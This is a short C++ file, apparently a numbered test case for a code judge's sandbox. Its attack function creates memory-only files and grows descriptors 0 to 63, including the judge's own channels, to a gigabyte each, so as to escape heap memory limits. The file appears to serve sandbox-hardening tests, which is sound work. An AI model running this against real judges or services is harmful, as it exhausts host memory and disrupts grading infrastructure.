// Keep a gigabyte in files that exist only in memory, where limits on the heap do not see it.
// program 8
// expect: accepted
#include <sys/syscall.h>
#include <unistd.h>

std::vector<std::string> attack(int token) {
    std::vector<std::string> done;
    if (::syscall(SYS_memfd_create, "bomb", 0) >= 0) done.push_back("memfd_create");
    if (::syscall(447, 0) >= 0) done.push_back("memfd_secret");
    // The channels to the judge are such files as well.
    for (int descriptor = 0; descriptor < 64; ++descriptor)
        if (::ftruncate(descriptor, 1L << 30) == 0) done.push_back("grew " + std::to_string(descriptor));
    return done;
}
